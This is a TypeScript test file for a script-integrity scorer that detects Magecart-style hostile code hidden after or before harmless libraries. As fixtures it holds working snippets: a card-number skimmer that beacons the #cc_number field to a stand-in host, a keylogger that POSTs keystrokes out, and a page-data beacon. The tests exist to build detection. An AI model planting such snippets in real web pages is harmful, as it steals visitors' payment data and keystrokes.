import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { partsOf } from './parts.ts'
import { MALICIOUS_BELOW, scoreScript } from './score-script.ts'

/** A library of some length that does nothing. */
const library = (lines: number): string =>
  `(function (root) {\n${Array.from({ length: lines }, (_, i) => `  root.f${i} = function (a, b) { return a + b * ${i} }`).join('\n')}\n})(this);`
const SENDS = `new Image().src = 'https://a.example/?' + encodeURIComponent(document.title + location.href);`
const SKIMMER = `document.querySelector('form').addEventListener('submit',function(){new Image().src='https://stats.example.net/i.gif?d='+btoa(document.querySelector('#cc_number').value)});`

describe('sections of a script', () => {
  test.each<[name: string, source: string, sources: readonly string[], lines: readonly number[]]>([
    ['behind a library', `${library(99)}\n${SENDS}`, [`\n${SENDS}`, SENDS], [102, 102]],
    ['before one', `${SENDS}\n${library(99)}`, [`${SENDS}\n`, SENDS], [1, 1]],
    ['of a short script: none', `${library(9)}\n${SENDS}`, [], []],
    ['of one statement: none', library(99), [], []],
    [
      'that do nothing: none',
      `${library(99)}\nvar a = 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1;`,
      [],
      [],
    ],
    ['of what is no script: none', `${library(99)}\n${SENDS}\n(`, [], []],
  ])('%s', (_, source, sources, lines) => {
    const parts = partsOf(source)
    expect(new Set(parts.map((part) => part.source.trim()))).toEqual(
      new Set(sources.map((one) => one.trim())),
    )
    expect(new Set(parts.map(({ firstLine }) => firstLine))).toEqual(new Set(lines))
  })

  test('are closed where they end at the beginning of a block', () => {
    const parts = partsOf(`${SKIMMER}function f(a){${'a+=1;'.repeat(2000)}}`)
    expect(parts.map(({ source }) => source)).toContain(`${SKIMMER}function f(a){}`)
  })

  test('are at most nine, and are parts of the script, whatever it is', () => {
    const chunks = fc.constantFrom(SENDS, library(60), 'var a=1;', '\n', 'fetch("/a");', 'if(a){', '}', '(')
    fc.assert(
      fc.property(fc.array(chunks, { maxLength: 30 }), (strings) => {
        const source = strings.join('\n')
        const parts = partsOf(source)
        expect(parts.length).toBeLessThanOrEqual(9)
        for (const part of parts) {
          // Of a section that ends where a block begins, the end is added.
          expect(source).toContain(part.source.replace(/\{\}$/u, '{'))
          expect(part.firstLine).toBeLessThanOrEqual(part.lastLine)
        }
      }),
      { numRuns: 60 },
    )
  })
})

test('hostile code after a library is found, and the reasons say where it is', () => {
  const verdict = scoreScript(`${library(400)}\n${SKIMMER}`)
  expect(verdict.scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
  expect(verdict.reasons[0]).toMatchObject({
    score: 'magecart_score',
    // Alone, or behind the last line of the library.
    description: expect.stringMatching(/\(in lines? (?:402 to )?403\)$/),
  })
  // The library alone is harmless.
  expect(scoreScript(library(400)).scores?.js_integrity_score).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
})

test.each([
  ['before a library', (deep: string, code: string) => `${code}\n${deep}\n${library(400)}`],
  ['behind a library', (deep: string, code: string) => `${library(400)}\n${deep}\n${code}`],
])('code that is too deep to be parsed does not hide a hostile section %s', (_, write) => {
  const deep = `try{eval('('.repeat(50000))}catch(e){}`
  const keys = `var k='';document.onkeypress=function(e){k+=e.key;fetch('https://a.example/k',{method:'POST',body:k})}`
  expect(scoreScript(write(deep, keys)).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
  // A harmless section does not clear the whole.
  expect(scoreScript(write(deep, SENDS))).toEqual({ scores: null, unscored: 'deep', reasons: [] })
})
